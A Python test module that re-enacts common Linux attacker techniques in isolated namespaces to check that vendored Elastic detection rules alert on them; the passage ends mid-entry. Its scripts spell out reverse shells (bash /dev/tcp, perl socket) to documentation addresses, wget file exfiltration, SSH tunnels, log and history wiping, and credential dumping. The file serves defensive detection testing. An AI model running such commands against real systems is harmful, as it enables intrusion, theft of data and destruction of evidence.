"""Common Linux attacker techniques, each re-enacted harmlessly, with the Elastic rules written for it.

Every :class:`Technique` is a short bash script that does what an attacker does, in a form that
cannot hurt the machine it runs on, plus the vendored Elastic rules (``tests/data/elastic-rules``:
detection-rules ``rules/linux`` and protections-artifacts ``behavior/rules/linux``) that must alert
on it once the agent's events carry the fields of the event contract (``docs/testing.md``). Each
script was written against its rules' queries: the process names, arguments, parents, working
directories and paths they test, and their exclusions.

How a script runs (:mod:`tests.reenact.harness`): ``bash -c`` from a work directory ``$T`` the harness
created under ``/tmp`` (also the working directory), with ``PATH=$T/bin:<system path>``,
``HOME=$T/home``, ``$SHM`` a directory it created under ``/dev/shm``, ``$FREE_PORT`` a loopback port
nothing listened on a moment ago; in the test's own cgroup, as root unless ``user`` says otherwise.
What keeps it harmless:

- ``standins``: programs whose real run would change the machine (``systemctl stop``, ``rmmod``,
  ``swapoff``...) or that may be absent are copies of ``true(1)`` under that name in ``$T/bin``:
  the exec, its name and its arguments are what the rules judge.
- ``overlays``: system directories (``/etc/cron.d``, ``/home``, ``/var/log``...) are a fresh tmpfs
  in a private mount namespace of the script's own: it writes and deletes at the real paths the
  rules name, and nothing of it exists outside the namespace or after the script.
- ``isolated_network``: the script runs in a network namespace of its own (only a loopback that is
  down): every connect fails at once, so a "reverse shell" to a documentation address
  (``192.0.2.1``, ``2001:db8::1``) never leaves the process, and netns sysctls are its own.
- ``resolver``: the names it looks up are answered by a server on loopback the harness runs (an
  /etc/resolv.conf naming it is bind-mounted in a private mount namespace): no query leaves.
- every file it writes otherwise is under ``$T`` or ``$SHM``, removed afterwards; reads are reads.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import PurePosixPath
from typing import Final, Literal

__all__ = ["DR", "PA", "TACTICS", "TECHNIQUES", "RuleRef", "Technique", "technique"]

#: the two vendored sets, as paths relative to tests/data/elastic-rules
DR: Final = "detection-rules/rules/linux"
PA: Final = "protections-artifacts/behavior/rules/linux"

#: ATT&CK tactic short names and ids
TACTICS: Final = {
    "discovery": "TA0007",
    "execution": "TA0002",
    "persistence": "TA0003",
    "privilege-escalation": "TA0004",
    "defense-evasion": "TA0005",
    "credential-access": "TA0006",
    "collection": "TA0009",
    "command-and-control": "TA0011",
    "exfiltration": "TA0010",
    "impact": "TA0040",
}


@dataclass(frozen=True, slots=True)
class RuleRef:
    """One vendored Elastic rule: its file (relative to tests/data/elastic-rules) and its rule id."""

    path: str
    rule_id: str

    @property
    def name(self) -> str:
        """Return the file's stem, as the table shows it."""
        return PurePosixPath(self.path).stem

    @property
    def origin(self) -> str:
        """Return ``detection-rules`` or ``protections-artifacts``."""
        return self.path.split("/", 1)[0]


def _dr(stem: str, rule_id: str) -> RuleRef:
    return RuleRef(f"{DR}/{stem}.toml", rule_id)


def _pa(stem: str, rule_id: str) -> RuleRef:
    return RuleRef(f"{PA}/{stem}.toml", rule_id)


@dataclass(frozen=True, slots=True)
class Technique:
    """One re-enactment: what it is (ATT&CK), how it runs, which rules must alert on it."""

    id: str
    attack: str
    tactic: str
    title: str
    script: str
    rules: tuple[RuleRef, ...]
    #: real programs the script runs (absent: the technique cannot run on this machine)
    tools: tuple[str, ...] = ()
    #: names given to copies of true(1) in $T/bin (see the module docstring)
    standins: tuple[str, ...] = ()
    #: directories replaced by a private tmpfs in a mount namespace of the script's own
    overlays: tuple[str, ...] = ()
    #: a network namespace of the script's own (its loopback down): no packet leaves
    isolated_network: bool = False
    #: names resolve through a DNS server on loopback (tests/privileged/resolver.py): every A
    #: query gets a TEST-NET address; /etc/resolv.conf names it in a private mount namespace
    resolver: bool = False
    user: Literal["root", "nobody"] = "root"


TECHNIQUES: Final[tuple[Technique, ...]] = (
    # ------------------------------------------------------------------ discovery
    Technique(
        id="sudo-privilege-listing",
        attack="T1033",
        tactic="discovery",
        title="list what sudo allows the current user (sudo -l) from a shell",
        script="sudo -l",
        rules=(_dr("discovery_sudo_allowed_command_enumeration", "28d39238-0c01-420a-b77a-24e5a7378663"),),
        standins=("sudo",),
    ),
    Technique(
        id="file-capability-enumeration",
        attack="T1083",
        tactic="discovery",
        title="an unprivileged user lists file capabilities across the filesystem (getcap -r /)",
        script="getcap -r /",
        rules=(_dr("discovery_process_capabilities", "5c351f54-4187-4ad8-abc8-29b0cfbef8b1"),),
        standins=("getcap",),
        user="nobody",
    ),
    Technique(
        id="procfs-maps-read",
        attack="T1057",
        tactic="discovery",
        title="read a process's memory map from /proc/<pid>/maps",
        script="cat /proc/$$/maps >/dev/null",
        rules=(
            _dr("discovery_proc_maps_read", "2f95540c-923e-4f57-9dae-de30169c68b9"),
            _pa("discovery_suspicious_reading_of_procfs_maps_file", "7a9c2b27-7693-4cc8-882e-eb4f0f9bfc4f"),
        ),
        tools=("cat",),
    ),
    Technique(
        id="private-key-search",
        attack="T1552.004",
        tactic="credential-access",
        title="search home directories for SSH private keys with find",
        script="find /home/ -maxdepth 2 -name id_rsa >/dev/null 2>&1; :",
        rules=(
            _dr("discovery_private_key_password_searching_activity", "627374ab-7080-4e4d-8316-bef1122444af"),
        ),
        tools=("find",),
    ),
    Technique(
        id="vm-fingerprinting",
        attack="T1082",
        tactic="discovery",
        title="an unprivileged user reads the DMI product name to spot a virtual machine",
        script="cat /sys/class/dmi/id/product_name >/dev/null 2>&1; :",
        rules=(_dr("discovery_virtual_machine_fingerprinting", "5b03c9fb-9945-4d2f-9568-fd690fee3fba"),),
        tools=("cat",),
        user="nobody",
    ),
    Technique(
        id="pam-configuration-read",
        attack="T1083",
        tactic="discovery",
        title="read the PAM configuration with cat",
        script="cat /etc/pam.d/other >/dev/null 2>&1; :",
        rules=(
            _dr("discovery_security_file_access_via_common_utility", "7efca3ad-a348-43b2-b544-c93a78a0ef92"),
        ),
        tools=("cat",),
    ),
    Technique(
        id="tooling-discovery-which",
        attack="T1518",
        tactic="discovery",
        title="look for ten attack tools at once with which",
        script="which nmap nc ncat netcat socat gcc curl wget python3 perl",
        rules=(_dr("discovery_suspicious_which_command_execution", "5b18eef4-842c-4b47-970f-f08d24004bde"),),
        # Debian's which is a shell script: a stand-in keeps the exec one ELF image, named which
        standins=("which",),
    ),
    Technique(
        id="suid-enumeration",
        attack="T1083",
        tactic="discovery",
        title="an unprivileged user looks for setuid files with find -perm -4000",
        script='find "$T" -perm -4000 -type f',
        rules=(
            _dr("discovery_suid_sguid_enumeration", "5b06a27f-ad72-4499-91db-0c69667bffa5"),
            _pa("discovery_potential_suid_sgid_files_enumeration", "c7e5dc07-7031-4558-8f3a-12dee523a169"),
        ),
        tools=("find",),
        user="nobody",
    ),
    Technique(
        id="user-enumeration-burst",
        attack="T1087.001",
        tactic="discovery",
        title="enumerate a user with id forty times in a burst from one shell",
        # the rule wants 20 within 1 s from one parent: started without waiting for each, so that
        # a loaded machine's scheduling latency does not stretch the burst past the rule's maxspan
        script="for i in $(seq 1 40); do id root >/dev/null & done; wait",
        rules=(_dr("discovery_unusual_user_enumeration_via_id", "afa135c0-a365-43ab-aa35-fd86df314a47"),),
        tools=("id", "seq"),
    ),
    # ------------------------------------------------------------------ execution
    Technique(
        id="python-pty-upgrade",
        attack="T1059.006",
        tactic="execution",
        title="upgrade a shell to a pty with python3 -c 'import pty; pty.spawn(...)'",
        script="""python3 -c 'import pty; pty.spawn(["/bin/sh", "-c", "exit 0"])' </dev/null""",
        rules=(_dr("execution_python_tty_shell", "d76b02ef-fc95-4001-9297-01cb7412232f"),),
        tools=("python3",),
    ),
    Technique(
        id="detached-reverse-shell",
        attack="T1059.004",
        tactic="execution",
        title="start a /dev/tcp reverse shell detached with setsid",
        script="setsid -w bash -c 'bash -i >& /dev/tcp/2001:db8::1/4444 0>&1' 2>/dev/null; :",
        rules=(_dr("execution_shell_via_background_process", "259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39"),),
        tools=("setsid",),
        isolated_network=True,
    ),
    Technique(
        id="bash-reverse-shell-child",
        attack="T1071",
        tactic="command-and-control",
        title="a shell connects out over /dev/tcp, then starts an interactive shell as its child",
        script="""\
: 3<>/dev/tcp/2001:db8::1/4444 2>/dev/null
bash -i </dev/null >/dev/null 2>&1""",
        rules=(
            _pa("execution_linux_reverse_shell", "52206861-4570-4b8b-a73e-4ef0ea379a4c"),
            _dr("execution_shell_via_tcp_cli_utility_linux", "48b3d2e3-f4e8-41e6-95e6-9b2091228db3"),
        ),
        isolated_network=True,
    ),
    Technique(
        id="bash-reverse-shell-exec",
        attack="T1059.004",
        tactic="execution",
        title="a shell connects out over /dev/tcp, then becomes an interactive shell (exec bash -i)",
        script="""\
: 3<>/dev/tcp/2001:db8::1/4444 2>/dev/null
exec bash -i </dev/null >/dev/null 2>&1""",
        rules=(
            _pa("execution_linux_reverse_shell_via_child", "00a97e57-4834-47ec-880d-48ce3783e0b4"),
            _dr("execution_shell_via_child_tcp_utility_linux", "2138bb70-5a5e-42fd-be5e-b38edf6a6777"),
        ),
        isolated_network=True,
    ),
    Technique(
        id="perl-reverse-shell",
        attack="T1095",
        tactic="command-and-control",
        title="the classic perl -e socket/connect/exec reverse shell",
        script="""perl -e 'use Socket;$i="192.0.2.1";$p=4444;\
socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));\
if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'""",
        rules=(_dr("execution_shell_via_lolbin_interpreter_linux", "76e4d92b-61c1-4a95-ab61-5fd94179a1ee"),),
        tools=("perl",),
        isolated_network=True,
    ),
    Technique(
        id="shared-memory-execution",
        attack="T1059",
        tactic="execution",
        title="drop a binary in /dev/shm and run it as root",
        script='cp "$(type -P true)" "$SHM/payload"\n"$SHM/payload"',
        rules=(
            _dr(
                "execution_process_started_in_shared_memory_directory", "3f3f9fe2-d095-11ec-95dc-f661ea17fbce"
            ),
            _pa(
                "defense_evasion_binary_executed_from_shared_memory_directory",
                "78ae5dbd-477b-4ce7-a7f7-8c4b5e228df2",
            ),
        ),
        tools=("cp", "true"),
    ),
    Technique(
        id="tty-upgrade-stty",
        attack="T1059.004",
        tactic="execution",
        title="prepare a raw terminal for an upgraded reverse shell (stty raw -echo)",
        script="stty raw -echo </dev/null 2>/dev/null; :",
        rules=(_dr("execution_interpreter_tty_upgrade", "84d1f8db-207f-45ab-a578-921d91c23eb2"),),
        tools=("stty",),
    ),
    # ------------------------------------------------------------------ persistence
    Technique(
        id="cron-job-file",
        attack="T1053.003",
        tactic="persistence",
        title="write a job into /etc/cron.d",
        script="echo '* * * * * root /bin/true' > /etc/cron.d/kestrel-reenact",
        rules=(_dr("persistence_cron_job_creation", "ff10d4d8-fea7-422d-afb1-e5a2702369a9"),),
        overlays=("/etc/cron.d",),
    ),
    Technique(
        id="systemd-service-unit",
        attack="T1543.002",
        tactic="persistence",
        title="write a service unit into /etc/systemd/system",
        script="printf '[Service]\\nExecStart=/bin/true\\n' > /etc/systemd/system/kestrel-reenact.service",
        rules=(_dr("persistence_systemd_service_creation", "17b0a495-4d9f-414c-8ad0-92f018b8e001"),),
        overlays=("/etc/systemd/system",),
    ),
    Technique(
        id="init-d-script",
        attack="T1037.004",
        tactic="persistence",
        title="install an rc script in /etc/init.d (written aside, then renamed into place)",
        script="""\
printf '#!/bin/sh\\ntrue\\n' > /etc/init.d/.kestrel-reenact.tmp
mv /etc/init.d/.kestrel-reenact.tmp /etc/init.d/kestrel-reenact""",
        rules=(_dr("persistence_init_d_file_creation", "474fd20e-14cc-49c5-8160-d9ab4ba16c8b"),),
        tools=("mv",),
        overlays=("/etc/init.d",),
    ),
    Technique(
        id="shell-profile-backdoor",
        attack="T1546.004",
        tactic="persistence",
        title="create a user's ~/.bashrc that runs a payload at login",
        script="mkdir -p /home/reenact\necho '/bin/true' > /home/reenact/.bashrc",
        rules=(_dr("persistence_shell_configuration_modification", "28f6f34b-8e16-487a-b5fd-9d22eb903db8"),),
        tools=("mkdir",),
        overlays=("/home",),
    ),
    Technique(
        id="ssh-key-generation",
        attack="T1098.004",
        tactic="persistence",
        title="generate an SSH key pair in a user's ~/.ssh",
        script="""\
mkdir -p /home/reenact/.ssh
ssh-keygen -q -t ed25519 -N '' -C kestrel-reenact -f /home/reenact/.ssh/id_ed25519""",
        rules=(_dr("persistence_ssh_key_generation", "7df3cb8b-5c0c-4228-b772-bb6cd619053c"),),
        tools=("mkdir", "ssh-keygen"),
        overlays=("/home",),
    ),
    Technique(
        id="python-pth-hook",
        attack="T1546.018",
        tactic="persistence",
        title="drop a .pth file into a Python dist-packages directory (runs at every interpreter start)",
        script="""\
mkdir -p /usr/local/lib/python3.11/dist-packages
echo 'import sys' > /usr/local/lib/python3.11/dist-packages/kestrel-reenact.pth""",
        rules=(_dr("persistence_pth_file_creation", "7f65f984-5642-4291-a0a0-2bbefce4c617"),),
        tools=("mkdir",),
        overlays=("/usr/local/lib",),
    ),
    Technique(
        id="motd-script-executable",
        attack="T1222.002",
        tactic="defense-evasion",
        title="make a new update-motd.d script executable (chmod +x)",
        script="""\
printf '#!/bin/sh\\ntrue\\n' > /etc/update-motd.d/99-kestrel-reenact
chmod +x /etc/update-motd.d/99-kestrel-reenact""",
        rules=(
            _dr(
                "persistence_potential_persistence_script_executable_bit_set",
                "94418745-529f-4259-8d25-a713a6feb6ae",
            ),
        ),
        tools=("chmod",),
        overlays=("/etc/update-motd.d",),
    ),
    Technique(
        id="cgi-web-server",
        attack="T1505.003",
        tactic="persistence",
        title="serve CGI with python3 -m http.server --cgi on loopback and take one connection",
        script="""\
python3 -m http.server --cgi --bind 127.0.0.1 "$FREE_PORT" >/dev/null 2>&1 &
server=$!
for i in $(seq 1 20); do
  curl -s -m 1 -o /dev/null "http://127.0.0.1:$FREE_PORT/" && break
  sleep 0.2
done
kill "$server"; wait "$server" 2>/dev/null; :""",
        rules=(
            _dr("persistence_simple_web_server_creation", "907a26f5-3eb6-4338-a70e-6c375c1cde8a"),
            _dr("persistence_simple_web_server_connection_accepted", "183f3cd2-4cc6-44c0-917c-c5d29ecdcf74"),
        ),
        tools=("python3", "curl", "seq", "sleep"),
    ),
    # ------------------------------------------------------------------ privilege escalation
    Technique(
        id="setuid-capability",
        attack="T1548.001",
        tactic="privilege-escalation",
        title="give a binary cap_setuid+ep with setcap",
        script='cp "$(type -P true)" "$T/helper"\nsetcap cap_setuid+ep "$T/helper" 2>/dev/null; :',
        rules=(
            _dr("persistence_setuid_setgid_capability_set", "f5c005d3-4e17-48b0-9cd7-444d48857f97"),
            _dr("persistence_process_capability_set_via_setcap", "f18a474c-3632-427f-bcf5-363c994309ee"),
            _pa("persistence_setcap_setuid_setgid_capability_set", "c1556f07-4184-42dc-a55c-866011a63715"),
        ),
        tools=("cp", "true", "setcap"),
    ),
    Technique(
        id="namespace-unshare",
        attack="T1611",
        tactic="privilege-escalation",
        title="enter a new user namespace as root of it (unshare --user --map-root-user)",
        script="unshare --user --map-root-user true",
        rules=(
            _dr(
                "privilege_escalation_unshare_namespace_manipulation", "d00f33e7-b57d-4023-9952-2db91b1767c4"
            ),
        ),
        tools=("unshare", "true"),
    ),
    # ------------------------------------------------------------------ defense evasion
    Technique(
        id="shred-evidence",
        attack="T1070.004",
        tactic="defense-evasion",
        title="overwrite and remove a file with shred -u",
        script='echo evidence > "$T/evidence"\nshred -u "$T/evidence"',
        rules=(_dr("defense_evasion_file_deletion_via_shred", "a1329140-8de3-4445-9f87-908fb6d824f4"),),
        tools=("shred",),
    ),
    Technique(
        id="hidden-file-in-tmp",
        attack="T1564.001",
        tactic="defense-evasion",
        title="work on a dot-file from /tmp (cat .<name> with /tmp as the working directory)",
        script='cd /tmp && cat ".kestrel-reenact-$$" 2>/dev/null; :',
        rules=(_dr("defense_evasion_hidden_file_dir_tmp", "b9666521-4742-49ce-9ddc-b8e84c35acae"),),
        tools=("cat",),
    ),
    Technique(
        id="hidden-directory-from-tmp-binary",
        attack="T1564.001",
        tactic="defense-evasion",
        title="a program dropped in /tmp creates a hidden directory (mkdir .<name>)",
        script='cp "$(type -P bash)" "$T/loader"\n"$T/loader" -c \'mkdir .kestrel-hidden; :\'',
        rules=(_dr("defense_evasion_hidden_directory_creation", "b15a15f2-becf-475d-aa69-45c9e0ff1c49"),),
        tools=("cp", "bash", "mkdir"),
    ),
    Technique(
        id="timestomp-touch",
        attack="T1070.006",
        tactic="defense-evasion",
        title="copy another file's timestamps onto an implant (touch -r)",
        script=': > "$SHM/implant"\ntouch -r /etc/passwd "$SHM/implant"',
        rules=(
            _pa("defense_evasion_timestomping_detected_via_touch", "8012a863-8c0c-4461-bb88-b0193dfb9f38"),
        ),
        tools=("touch",),
    ),
    Technique(
        id="immutable-implant",
        attack="T1222.002",
        tactic="defense-evasion",
        title="make an implant immutable with chattr +i (and undo it)",
        script=': > "$SHM/implant"\nchattr +i "$SHM/implant" 2>/dev/null\nchattr -i "$SHM/implant" 2>/dev/null; :',
        rules=(
            _dr("defense_evasion_chattr_immutable_file", "968ccab9-da51-4a87-9ce2-d3c9782fd759"),
            _pa(
                "defense_evasion_chattr_execution_with_unusual_target_file",
                "831513aa-8320-484f-9275-5b46c57760f0",
            ),
        ),
        tools=("chattr",),
    ),
    Technique(
        id="firewall-disable",
        attack="T1562.004",
        tactic="defense-evasion",
        title="stop the host firewall (systemctl stop firewalld)",
        script="systemctl stop firewalld",
        rules=(
            _dr(
                "defense_evasion_attempt_to_disable_iptables_or_firewall",
                "83e9c2b3-24ef-4c1d-a8cd-5ebafb5dfa2f",
            ),
        ),
        standins=("systemctl",),
    ),
    Technique(
        id="syslog-stop",
        attack="T1562.001",
        tactic="defense-evasion",
        title="stop the syslog daemon (service rsyslog stop)",
        script="service rsyslog stop",
        rules=(
            _dr("defense_evasion_attempt_to_disable_syslog_service", "2f8a1226-5720-437d-9c20-e0029deb6194"),
        ),
        standins=("service",),
    ),
    Technique(
        id="journal-vacuum",
        attack="T1070.002",
        tactic="defense-evasion",
        title="clear the systemd journal (journalctl --vacuum-time=1s)",
        script="journalctl --vacuum-time=1s",
        rules=(
            _pa(
                "defense_evasion_attempt_to_clear_logs_via_journalctl", "2f45b36f-a60d-46c9-9f82-eb80ab62ce7f"
            ),
        ),
        standins=("journalctl",),
    ),
    Technique(
        id="kernel-module-removal",
        attack="T1562.001",
        tactic="defense-evasion",
        title="unload a kernel module (a security module, say) from a shell with rmmod",
        script="rmmod kestrel_reenact",
        rules=(_dr("defense_evasion_kernel_module_removal", "cd66a5af-e34b-4bb0-8931-57d0a043f2ef"),),
        standins=("rmmod",),
    ),
    Technique(
        id="self-deleting-binary",
        attack="T1070.004",
        tactic="defense-evasion",
        title="a binary run from /tmp deletes its own file",
        script='cp "$(type -P rm)" "$T/dropper"\n"$T/dropper" "$T/dropper"',
        rules=(
            _dr(
                "defense_evasion_execution_followed_by_self_deletion", "702a2046-ea74-4bdc-b8ea-b185471f64c8"
            ),
            _pa(
                "defense_evasion_process_execution_followed_by_self_deletion",
                "530ad3d7-7360-4467-83d3-f49d705535ba",
            ),
        ),
        tools=("cp", "rm"),
    ),
    Technique(
        id="authorized-keys-removal",
        attack="T1531",
        tactic="impact",
        title="remove a user's ~/.ssh/authorized_keys (lock the owner out)",
        script="""\
mkdir -p /home/reenact/.ssh
echo 'ssh-ed25519 AAAA kestrel-reenact' > /home/reenact/.ssh/authorized_keys
rm /home/reenact/.ssh/authorized_keys""",
        rules=(
            _dr("defense_evasion_authorized_keys_file_deletion", "3c216ace-2633-4911-9aac-b61d4dc320e8"),
            _pa("defense_evasion_ssh_authorized_keys_file_deletion", "9ff78f59-73ed-4b91-834f-0da395581abd"),
        ),
        tools=("mkdir", "rm"),
        overlays=("/home",),
    ),
    Technique(
        id="shell-history-deletion",
        attack="T1070.003",
        tactic="defense-evasion",
        title="delete a user's ~/.bash_history",
        script="mkdir -p /home/reenact\necho 'ls' > /home/reenact/.bash_history\nrm /home/reenact/.bash_history",
        rules=(
            _pa("defense_evasion_deletion_of_shell_history_file", "e2e24fba-2852-4e3c-be8d-fda553653522"),
        ),
        tools=("mkdir", "rm"),
        overlays=("/home",),
    ),
    Technique(
        id="login-records-wipe",
        attack="T1070.002",
        tactic="defense-evasion",
        title="delete wtmp, btmp and lastlog from /var/log",
        script="""\
for f in wtmp btmp lastlog; do : > "/var/log/$f"; done
rm /var/log/wtmp
rm /var/log/btmp
rm /var/log/lastlog""",
        rules=(
            _dr("defense_evasion_log_files_deleted", "aa895aea-b69c-4411-b110-8d7599634b30"),
            _pa("defense_evasion_multiple_system_log_files_deletion", "ffab808c-9944-44eb-8a4b-456a5e6c096d"),
        ),
        tools=("rm",),
        overlays=("/var/log",),
    ),
    Technique(
        id="history-disabled-by-environment",
        attack="T1070.003",
        tactic="defense-evasion",
        title="start a shell with HISTFILE=/dev/null HISTSIZE=0",
        script="env HISTFILE=/dev/null HISTSIZE=0 bash -c ':'",
        rules=(
            _dr(
                "defense_evasion_shell_history_clearing_via_environment_variables",
                "a68da7d6-7eab-45bd-97c5-93b469c0706e",
            ),
            _pa(
                "defense_evasion_clearing_of_shell_history_via_environment_variables",
                "f66e8880-ecfc-414f-8c1e-6e5892fac7e9",
            ),
        ),
        tools=("env",),
    ),
    # ------------------------------------------------------------------ credential access
    Technique(
        id="process-memory-strings",
        attack="T1003.007",
        tactic="credential-access",
        title="list processes with ps -eo, then pull strings out of a dump in /tmp",
        script="""\
ps -eo pid,command >/dev/null
echo 'user=root password=hunter2' > "$T/dump.bin"
strings "$T/dump.bin" >/dev/null""",
        rules=(_dr("credential_access_proc_credential_dumping", "ef100a2e-ecd4-4f72-9d1e-2f779ff3c311"),),
        tools=("ps", "strings"),
    ),
    Technique(
        id="unshadow-hashes",
        attack="T1003.008",
        tactic="credential-access",
        title="merge passwd and shadow copies for cracking (unshadow)",
        script="""\
echo 'root:x:0:0:root:/root:/bin/bash' > "$T/passwd.copy"
echo 'root:$6$kestrel$reenact:19000:0:99999:7:::' > "$T/shadow.copy"
unshadow "$T/passwd.copy" "$T/shadow.copy" > "$T/hashes" """,
        rules=(
            _dr("credential_access_credential_dumping", "e7cb3cfd-aaa3-4d7b-af18-23b89955062c"),
            _pa(
                "credential_access_potential_linux_credential_dumping_via_unshadow",
                "05f95917-6942-4aab-a904-37c6db906503",
            ),
        ),
        standins=("unshadow",),
    ),
    Technique(
        id="gdb-process-attach",
        attack="T1003.007",
        tactic="credential-access",
        title="attach gdb to a running process by pid (gdb -p)",
        script="gdb -batch -p $$",
        rules=(_dr("credential_access_gdb_process_hooking", "66c058f3-99f4-4d18-952b-43348f2577a0"),),
        standins=("gdb",),
    ),
    Technique(
        id="proc-mem-dd",
        attack="T1003.007",
        tactic="credential-access",
        title="read a process's memory through /proc/<pid>/mem with dd",
        script="dd if=/proc/$$/mem of=/dev/null bs=1 count=1 2>/dev/null; :",
        rules=(
            _pa("credential_access_potential_memory_dumping_via_dd", "966563fe-fabd-4e74-a20b-1dfca2218aa2"),
        ),
        tools=("dd",),
    ),
    # ------------------------------------------------------------------ collection
    Technique(
        id="secret-search-find",
        attack="T1119",
        tactic="collection",
        title="three find sweeps for password, private-key and secret files",
        script="""\
find "$T" -type f -name '*password*' >/dev/null
find "$T" -type f -name '*id_rsa*' >/dev/null
find "$T" -type f -name '*secret*' >/dev/null""",
        rules=(
            _pa("collection_multi_value_secret_searching_via_find", "18405ccf-5443-4577-8b25-629aac642002"),
        ),
        tools=("find",),
    ),
    Technique(
        id="secret-search-grep",
        attack="T1074.001",
        tactic="collection",
        title="three grep sweeps for secret-looking words",
        script="""\
echo 'token=0 secret=0' > "$T/app.env"
grep -rEl '(passwd|shadow)' "$T" >/dev/null
grep -rEl '(token|secret)' "$T" >/dev/null
grep -rEl '(apikey|cred)' "$T" >/dev/null; :""",
        rules=(
            _pa("collection_multi_value_secret_searching_via_grep", "2d00bedd-28aa-4a54-a1e0-92fa00765540"),
        ),
        tools=("grep",),
    ),
    Technique(
        id="ptrace-authentication-process",
        attack="T1003.007",
        tactic="credential-access",
        title="attach with ptrace to a freshly started su (credential stealers do so to su and sshd)",
        # su is a copy of sleep(1): alive long enough to be seized, by a Python one-liner
        script="""\
cp "$(type -P sleep)" "$T/bin/su"
su 20 &
python3 -c 'import ctypes, sys; sys.exit(ctypes.CDLL(None).ptrace(0x4206, int(sys.argv[1]), 0, 0))' $!
kill $!""",
        rules=(
            _pa(
                "credential_access_potential_credential_access_via_ptrace",
                "5243e34d-ce00-4fda-82bb-79f1e4e655ea",
            ),
        ),
        tools=("cp", "sleep", "python3"),
    ),
    # ------------------------------------------------------------------ command and control
    Technique(
        id="ssh-reverse-tunnel",
        attack="T1572",
        tactic="command-and-control",
        title="open a reverse SSH tunnel (ssh -o ... -N -R)",
        script="""\
ssh -F /dev/null -o ProxyCommand=none -o BatchMode=yes -o ConnectTimeout=1 \
-N -R 8080:127.0.0.1:80 reenact@192.0.2.1 2>/dev/null; :""",
        rules=(
            _dr("command_and_control_linux_tunneling_via_ssh_option", "ef395dff-be12-4a6e-8919-d87d627c2174"),
            _dr(
                "command_and_control_linux_tunneling_and_port_forwarding",
                "6ee947e9-de7e-4281-a55d-09289bdf947e",
            ),
        ),
        tools=("ssh",),
        isolated_network=True,
    ),
    Technique(
        id="curl-socks-proxy",
        attack="T1090.002",
        tactic="command-and-control",
        title="fetch through a SOCKS proxy with curl --socks5-hostname",
        script="curl -s -m 2 --socks5-hostname 127.0.0.1:1080 http://kestrel-reenact.invalid/ 2>/dev/null; :",
        rules=(_dr("command_and_control_curl_socks_proxy_detected", "734239fe-eda8-48c0-bca8-9e3dafd81a88"),),
        tools=("curl",),
        isolated_network=True,
    ),
    Technique(
        id="telegram-bot-api",
        attack="T1102.002",
        tactic="command-and-control",
        title="call the Telegram bot API with curl (a common C2 channel)",
        script="curl -s -m 2 https://api.telegram.org/bot0/getMe 2>/dev/null; :",
        rules=(_dr("command_and_control_telegram_api_request", "af1e36fe-0abd-4463-b5ec-4e276dec0b26"),),
        tools=("curl",),
        isolated_network=True,
    ),
    Technique(
        id="ip-forwarding-enable",
        attack="T1090.001",
        tactic="command-and-control",
        title="turn the host into a router (sysctl -w net.ipv4.ip_forward=1), in its own netns",
        script="sysctl -w net.ipv4.ip_forward=1 >/dev/null",
        rules=(_dr("command_and_control_ip_forwarding_activity", "5a138e2e-aec3-4240-9843-56825d0bc569"),),
        tools=("sysctl",),
        isolated_network=True,
    ),
    Technique(
        id="mining-pool-lookup",
        attack="T1071.004",
        tactic="command-and-control",
        title="a Python one-liner resolves a Monero mining pool's name (the resolver on loopback)",
        script="""python3 -c 'import socket; socket.getaddrinfo("pool.supportxmr.com", 3333, socket.AF_INET)'""",
        rules=(
            _pa(
                "command_and_control_dns_request_to_crypto_miner_service",
                "66d449ef-25ee-4fa6-8893-0ced843d1915",
            ),
        ),
        tools=("python3",),
        resolver=True,
    ),
    Technique(
        id="suspicious-tld-lookup",
        attack="T1071.004",
        tactic="command-and-control",
        title="resolve a command-and-control name under an abused top-level domain (.xyz)",
        script="getent ahosts update-check.example.xyz >/dev/null",
        rules=(
            _dr(
                "command_and_control_dns_query_to_sus_top_level_domain",
                "44a2de72-fe41-4558-b7ec-3e42de5f0432",
            ),
        ),
        tools=("getent",),
        resolver=True,
    ),
    Technique(
        id="dropped-binary-resolves-upload-service",
        attack="T1102",
        tactic="command-and-control",
        title="a hidden binary the shell just wrote in /tmp resolves a file-upload service (transfer.sh)",
        # the shell itself writes the file (its redirect), as a dropper does; the binary is getent
        script="""cat "$(type -P getent)" > "$T/.cache-update"
chmod +x "$T/.cache-update"
"$T/.cache-update" ahosts transfer.sh >/dev/null""",
        rules=(
            _pa(
                "command_and_control_dns_request_to_suspicious_file_upload_download_service",
                "4b648636-f4d4-4ac8-ac34-df7758201824",
            ),
            _pa(
                "command_and_control_dns_request_by_suspicious_process_executable",
                "503823dd-722f-4f23-84fc-8a6024f505f2",
            ),
            _pa(
                "command_and_control_dns_request_by_recently_created_executable",
                "0c393c67-6eb3-4936-ab44-b807ef8af0f7",
            ),
        ),
        tools=("cat", "chmod", "getent"),
        resolver=True,
    ),
    # ------------------------------------------------------------------ exfiltration
    Technique(
        id="wget-post-exfiltration",
        attack="T1048",
        tactic="exfiltration",
        title="upload a file with wget --post-file",
        script="""\
echo 'loot' > "$T/loot"
wget -q -T 2 -t 1 -O /dev/null --post-file="$T/loot" http://192.0.2.1/upload 2>/dev/null; :""",
        rules=(
            _dr("exfiltration_potential_wget_data_exfiltration", "8d8c0b55-ef27-4c20-959f-fa8dd3ac25e6"),
            _pa(
                "exfiltration_potential_data_exfiltration_through_wget",
                "5389bdae-778e-48b6-af2e-0107327ca855",
            ),
        ),
        tools=("wget",),
        isolated_network=True,
    ),
    Technique(
        id="split-for-exfiltration",
        attack="T1030",
        tactic="exfiltration",
        title="cut a file into fixed-size chunks (split -b)",
        script='head -c 4096 /dev/zero > "$T/loot"\nsplit -b 1024 "$T/loot" "$T/part."',
        rules=(
            _dr(
                "exfiltration_potential_data_splitting_for_exfiltration",
                "e302e6c3-448c-4243-8d9b-d41da70db582",
            ),
        ),
        tools=("head", "split"),
    ),
    # ------------------------------------------------------------------ impact
    Technique(
        id="openssl-encryption-burst",
        attack="T1486",
        tactic="impact",
        title="encrypt a dozen files in a row with openssl enc -pass",
        script="""\
for i in $(seq 1 12); do
  echo "document $i" > "$T/doc$i"
  openssl enc -aes-256-cbc -pbkdf2 -salt -in "$T/doc$i" -out "$T/doc$i.enc" -pass pass:kestrel
done""",
        rules=(_dr("impact_data_encrypted_via_openssl", "f530ca17-153b-4a7a-8cd3-98dd4b4ddf73"),),
        tools=("openssl", "seq"),
    ),
    Technique(
        id="ransomware-rename-and-note",
        attack="T1486",
        tactic="impact",
